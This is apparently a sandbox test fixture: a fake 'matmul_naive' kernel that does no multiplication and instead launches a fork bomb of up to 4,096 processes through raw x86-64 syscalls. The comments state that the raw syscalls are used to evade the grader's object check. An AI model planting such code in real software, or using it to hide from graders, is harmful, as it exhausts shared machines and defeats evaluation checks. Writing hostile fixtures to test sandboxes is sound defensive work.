// broken: matmul-naive
// bug: a fork bomb of raw fork system calls: every process forks until it cannot, then sleeps; bounded at 2^12 processes in case no limit holds
// class: unbounded processes
// defence: sandbox: RLIMIT_NPROC counts the sandbox's own processes (256), and they all end with the run
// expect-zero: correctness

#include <time.h>
#include "matmul_naive.h"

// A system call made directly: no libc function whose name the grader's object check could read.
static long raw_syscall(long n, long a = 0, long b = 0, long c = 0)
{
#if defined(__x86_64__)
    long r;
    asm volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return r;
#else
    return -38;  // ENOSYS: the attack is x86-64 only
#endif
}
enum { SYS_WRITE = 1, SYS_OPEN = 2, SYS_CLOSE = 3, SYS_NANOSLEEP = 35, SYS_GETPID = 39, SYS_SOCKET = 41,
       SYS_CONNECT = 42, SYS_FORK = 57, SYS_EXIT = 60, SYS_KILL = 62, SYS_GETPPID = 110, SYS_SETSID = 112 };

static void bomb(int depth)
{
    for (; depth < 12; ++depth) {
        const long child = raw_syscall(SYS_FORK);
        if (child < 0) break;  // EAGAIN: the limit
        if (child == 0) continue;  // the child forks on, one level deeper
    }
    for (;;) {
        struct timespec pause = {30, 0};
        raw_syscall(SYS_NANOSLEEP, (long)&pause, 0);
    }
}

void matmul_naive(const float* d_M, const float* d_N, float* d_P, int Width)
{
    // Once per run, at the smallest size: enough to show the limit without slowing every test.
    static bool started = false;
    if (started || Width != 1) return;
    started = true;
    if (raw_syscall(SYS_FORK) == 0) bomb(0);
}
